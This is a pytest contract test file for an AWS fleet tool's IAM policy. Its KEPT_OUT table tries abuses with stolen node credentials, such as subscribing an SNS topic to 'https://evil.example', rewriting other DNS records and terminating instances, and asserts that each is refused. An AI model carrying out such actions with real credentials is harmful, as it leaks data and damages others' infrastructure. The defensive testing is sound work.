"""The printed IAM policy, enforced: every flow passes with it, each statement is missed by one that it is for, what is not a node's own
is kept out, and doctor names what a role lacks.
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from botocore.exceptions import ClientError

from hafleet import compose, permits
from hafleet.adapters.queue import OwnQueue
from hafleet.core import iampolicy
from hafleet.core.iamgrants import GRANTS, REAPER
from hafleet.errors import AwsDenied, HafleetError
from hafleet.findings import Finding
from hafleet.lab.cloud import REGION
from tests.contract import iam_stage
from tests.contract.iam_stage import Trouble, World

pytestmark = pytest.mark.xdist_group("iam")  # one account for all of them

Flow = Callable[[World], None]

# statement -> the flow that fails without it
NEEDED_BY: dict[str, Flow] = {
    "Membership": iam_stage.membership,
    "OwnGroup": iam_stage.own_group,
    "ZoneByName": iam_stage.registering,
    "ZoneById": iam_stage.zone_by_id,
    "RecordList": iam_stage.registering,
    "Records": iam_stage.registering,
    "Changes": iam_stage.registering,
    "HealthCheckList": iam_stage.reaping,
    "NewHealthCheck": iam_stage.registering,
    "HealthChecks": iam_stage.registering,
    "HookList": iam_stage.hooks,
    "Hooks": iam_stage.hooks,
    "ServerHooks": iam_stage.server_hooks,
    "TaggedServerHooks": iam_stage.server_hooks,
    "Replacement": iam_stage.replacement,
    "AbandonedTag": iam_stage.abandoning,
    "DrainedTag": iam_stage.draining,
    "DrainedTagList": iam_stage.draining,
    "AddressList": iam_stage.addresses,
    "Addresses": iam_stage.addresses,
    "AddressInstance": iam_stage.addresses,
    "AddressInterface": iam_stage.addresses,
    "Queue": iam_stage.own_queue,
    "GivenQueue": iam_stage.given_queue,
    "QueueList": iam_stage.own_queue,
    "Subscribing": iam_stage.own_queue,
    "SubscriptionList": iam_stage.own_queue,
    "Unsubscribing": iam_stage.own_queue,
    "Orders": iam_stage.orders,
}
FLOWS = dict.fromkeys((*NEEDED_BY.values(), iam_stage.hearing))
SECOND = {iam_stage.zone_by_id, iam_stage.given_queue}  # flows of the second settings


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with iam_stage.open_world() as made:
        yield made


def policy_for(world: World, flow: Flow, without: str = "") -> dict[str, object]:
    return world.policy(world.both()[flow in SECOND], without)


@pytest.mark.parametrize("flow", FLOWS, ids=lambda flow: flow.__name__)
def test_a_flow_passes_with_the_printed_policy(world: World, flow: Flow) -> None:
    with world.allowed(policy_for(world, flow)):
        flow(world)
        assert world.cloud.refused() == []


@pytest.mark.parametrize("sid", GRANTS)
def test_without_its_statement_a_flow_fails_and_says_what_is_missing(world: World, sid: str) -> None:
    flow = NEEDED_BY[sid]
    with world.allowed(policy_for(world, flow, without=sid)):
        with pytest.raises((HafleetError, Trouble)) as caught:
            flow(world)
        refused = {each["action"] for each in world.cloud.refused()}
    text = str(caught.value)
    assert refused <= set(GRANTS[sid].actions) and len(refused) == 1
    (action,) = refused
    assert f"allow {action} to this node's role" in text, text
    assert "hafleet iam-policy" in text


def test_an_action_that_is_not_the_calls_own_is_named_as_aws_names_it(world: World) -> None:
    policy: Any = world.policy(iam_stage.settings())
    (queue,) = [each for each in policy["Statement"] if each["Sid"] == "Queue"]
    queue["Action"].remove("sqs:TagQueue")  # which CreateQueue needs besides, for it tags the queue
    with world.allowed(policy), pytest.raises(HafleetError, match="allow sqs:tagqueue to this node's role") as caught:
        OwnQueue(world.account, "edge", lambda: "i-0fffffffffffffff0", list[str]().append).url()
    assert isinstance(caught.value, AwsDenied) and caught.value.where == f"sqs:CreateQueue in {REGION}"


def test_the_reaper_lives_by_its_own_policy(world: World) -> None:
    with world.allowed(world.policy(iam_stage.settings(), role=REAPER)):
        iam_stage.reaping(world)
        assert world.cloud.refused() == []


# --- what the policy keeps out ----------------------------------------------------------------------------------------


def changes(action: str, name: str, type_: str = "A") -> dict[str, Any]:
    record = {"Name": name, "Type": type_, "TTL": 60, "ResourceRecords": [{"Value": "192.0.2.1"}]}
    return {"Changes": [{"Action": action, "ResourceRecordSet": record}]}


def records(world: World, batch: dict[str, Any], zone_id: str = "") -> None:
    world.account.route53().change_resource_record_sets(HostedZoneId=zone_id or world.zone_id, ChangeBatch=batch)  # type: ignore[arg-type]


def scaling(world: World) -> Any:
    return world.account.scaling()[0]


def ec2(world: World) -> Any:
    return world.account.scaling()[1]


def arn(service: str, name: str) -> str:
    return f"arn:aws:{service}:{REGION}:{iam_stage.ACCOUNT}:{name}"


def tag(key: str, group: str = iam_stage.EDGE) -> list[dict[str, Any]]:
    told = {"ResourceId": group, "ResourceType": "auto-scaling-group", "Key": key, "Value": "x"}
    return [{**told, "PropagateAtLaunch": False}]


# what a node whose credentials are stolen cannot do
KEPT_OUT: dict[str, tuple[str, Callable[[World], object]]] = {
    "another name": ("route53:ChangeResourceRecordSets", lambda w: records(w, changes("CREATE", "www.example.test"))),
    "a name that ends alike": (
        "route53:ChangeResourceRecordSets",
        lambda w: records(w, changes("CREATE", "xlb.example.test")),
    ),
    "another type": (
        "route53:ChangeResourceRecordSets",
        lambda w: records(w, changes("CREATE", "a.lb.example.test", "CNAME")),
    ),
    "another action": (
        "route53:ChangeResourceRecordSets",
        lambda w: records(w, changes("UPSERT", "lb.example.test")),
    ),
    "another zone": (
        "route53:ChangeResourceRecordSets",
        lambda w: records(w, changes("CREATE", "lb.example.test"), "Z0OTHER"),
    ),
    "another group's hook": (
        "autoscaling:CompleteLifecycleAction",
        lambda w: scaling(w).complete_lifecycle_action(
            AutoScalingGroupName="database",
            LifecycleHookName="x",
            InstanceId=w.node,
            LifecycleActionResult="CONTINUE",
        ),
    ),
    "another group's tag": (
        "autoscaling:CreateOrUpdateTags",
        lambda w: scaling(w).create_or_update_tags(Tags=tag("hafleet:zone:a", "database")),
    ),
    "another tag of the group": (
        "autoscaling:CreateOrUpdateTags",
        lambda w: scaling(w).create_or_update_tags(Tags=tag("hafleet:zone:a") + tag("team")),
    ),
    "a sibling's tag": (
        "ec2:CreateTags",
        lambda w: ec2(w).create_tags(Resources=[w.spare], Tags=[{"Key": iampolicy.DRAINED, "Value": "x"}]),
    ),
    "another tag of its own": (
        "ec2:CreateTags",
        lambda w: ec2(w).create_tags(Resources=[w.node], Tags=[{"Key": "Name", "Value": "x"}]),
    ),
    "an address outside the pool": (
        "ec2:AssociateAddress",
        lambda w: ec2(w).associate_address(
            AllocationId=w.cloud.ec2.allocate_address(Domain="vpc")["AllocationId"], InstanceId=w.node
        ),
    ),
    "an address for a sibling": (
        "ec2:AssociateAddress",
        lambda w: ec2(w).associate_address(
            AllocationId=ec2(w).describe_addresses(Filters=[{"Name": "tag:hafleet:pool", "Values": ["edge"]}])[
                "Addresses"
            ][0]["AllocationId"],
            InstanceId=w.spare,
        ),
    ),
    "the dead-letter queue": (
        "sqs:DeleteQueue",
        lambda w: w.account.messages()[0].delete_queue(QueueUrl=w.given.replace("given", "hafleet-edge-dead")),
    ),
    "another subscriber": (
        "sns:Subscribe",
        lambda w: w.account.messages()[1].subscribe(
            TopicArn=arn("sns", "hafleet-edge"), Protocol="https", Endpoint="https://evil.example"
        ),
    ),
    "another fleet's topic": (
        "sns:Subscribe",
        lambda w: w.account.messages()[1].subscribe(
            TopicArn=arn("sns", "hafleet-other"), Protocol="sqs", Endpoint=arn("sqs", "hafleet-edge-i-0abc")
        ),
    ),
    "an instance's end": ("ec2:TerminateInstances", lambda w: ec2(w).terminate_instances(InstanceIds=[w.node])),
    "the group's size": (
        "autoscaling:SetDesiredCapacity",
        lambda w: scaling(w).set_desired_capacity(AutoScalingGroupName=iam_stage.EDGE, DesiredCapacity=0),
    ),
}


@pytest.mark.parametrize(("action", "act"), KEPT_OUT.values(), ids=KEPT_OUT.keys())
def test_what_is_not_a_nodes_own_is_refused(world: World, action: str, act: Callable[[World], object]) -> None:
    with world.allowed(world.policy(iam_stage.settings())):
        with pytest.raises(ClientError) as caught:
            act(world)
        assert [each["action"] for each in world.cloud.refused()] == [action]
    answer: Any = caught.value.response
    assert answer["ResponseMetadata"]["HTTPStatusCode"] == 403


# --- doctor -----------------------------------------------------------------------------------------------------------

SITE = {"name": "site", "port": 8080, "sources": [{"asg": iam_stage.BLUE, "terminate_hook": "drains"}]}

# statement that is missing -> what says so, and how bad it is
TOLD: dict[str, tuple[str, str, str]] = {
    "Records": ("fail", "may change records", "route53:ChangeResourceRecordSets"),
    "HealthChecks": ("fail", "may delete checks", "route53:DeleteHealthCheck"),
    "ServerHooks": ("fail", f"may end {iam_stage.BLUE}'s hooks", "autoscaling:CompleteLifecycleAction"),
    "AbandonedTag": ("fail", "may write why it gave up", "ec2:CreateTags"),
    "DrainedTag": ("fail", "may tell what it drained", "ec2:CreateTags"),
    "Addresses": ("fail", "may take an address", "ec2:AssociateAddress"),
    "AddressInstance": ("fail", "may take an address", "ec2:AssociateAddress"),
    "AddressInterface": ("fail", "may take an address", "ec2:AssociateAddress"),
    "Orders": ("warn", "may take orders back", "autoscaling:DeleteTags"),
}


@dataclass
class Doctor:
    """A node of the world, described by hand; its role is the one of an instance all the same."""

    world: World
    parts: compose.Parts

    def looks(self, without: str = "") -> dict[str, Finding]:
        """What is found with the printed policy, less one statement."""
        with self.world.allowed(self.world.policy(iam_stage.settings(), without)):
            return {finding.about: finding for finding in permits.rights(self.parts)}


@pytest.fixture(scope="module")
def doctor(world: World, tmp_path_factory: pytest.TempPathFactory) -> Doctor:
    folder = tmp_path_factory.mktemp("doctor")
    asked = iam_stage.settings().model_dump(mode="json", exclude_unset=True)
    static = {
        "id": world.node,
        "private_ip": "10.0.0.7",
        "public_ip": "198.51.100.7",
        "zone": f"{REGION}a",
        "region": REGION,
        "asg": iam_stage.EDGE,
    }
    path = folder / "hafleet.yaml"
    written: dict[str, Any] = {**asked, "backends": [SITE], "node": {"static": static}, "state_dir": str(folder)}
    path.write_text(json.dumps(written))
    return Doctor(world, compose.build(path))


def test_every_right_is_tried_and_nothing_is_changed(doctor: Doctor) -> None:
    before = everything(doctor.world)
    found = doctor.looks()
    assert {about for about, finding in found.items() if finding.state == "ok"} == {told[1] for told in TOLD.values()}
    assert found.pop("permissions").state == "hint"
    assert {finding.state for finding in found.values()} == {"ok"}
    assert doctor.world.cloud.refused() == []
    assert everything(doctor.world) == before


@pytest.mark.parametrize("sid", TOLD)
def test_a_right_that_is_missing_is_named(doctor: Doctor, sid: str) -> None:
    state, about, action = TOLD[sid]
    found = doctor.looks(without=sid)
    assert (found[about].state, found[about].fix) == (
        state,
        f"allow {action} to this node's role; `hafleet iam-policy` prints all that it needs",
    )
    assert [name for name, finding in found.items() if finding.state in {"fail", "warn"}] == [about]


def test_while_aws_is_away_one_line_says_so(doctor: Doctor) -> None:
    fault = doctor.world.cloud.fault("5xx", service="autoscaling")
    try:
        found = doctor.looks()
    finally:
        doctor.world.cloud.heal(fault)
    last = list(found.values())[-1]
    assert last.about == f"may end {iam_stage.BLUE}'s hooks" and last.what.startswith("cannot be tried now")
    assert [finding.state for finding in found.values()] == ["ok", "ok", "warn"]


def everything(world: World) -> Any:
    """Records, checks, tags, addresses and the wait of a node, as the operator sees them."""
    cloud, kept = world.cloud, (world.node, world.joiner)
    waits = [(wait["instance"], wait["hook"], wait["heartbeats"]) for wait in cloud.waiting()]
    groups = cloud.autoscaling.describe_auto_scaling_groups()["AutoScalingGroups"]
    tags = {machine.id: machine.tags for machine in cloud.machines() if machine.id in kept}
    addresses = [sorted(a.items(), key=str) for a in cloud.ec2.describe_addresses()["Addresses"]]
    checks = sorted(check["Id"] for check in cloud.control("GET", "checks"))
    return (
        [zone["ResourceRecordSets"] for zone in cloud.control("GET", "zones")],
        checks,
        [wait for wait in waits if wait[0] in kept],
        {group["AutoScalingGroupName"]: group["Tags"] for group in groups},
        tags,
        addresses,
    )
